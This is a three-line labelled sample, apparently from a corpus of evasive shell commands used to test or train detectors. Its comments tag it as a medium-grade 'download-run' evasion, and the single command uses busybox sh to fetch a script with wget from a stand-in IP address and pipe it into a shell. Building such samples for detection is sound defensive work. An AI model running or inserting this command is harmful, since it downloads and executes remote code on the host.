# evasion: busybox sh runs a download
# grade: medium; does: download-run
busybox sh -c 'wget -O- http://203.0.113.5/s | sh'
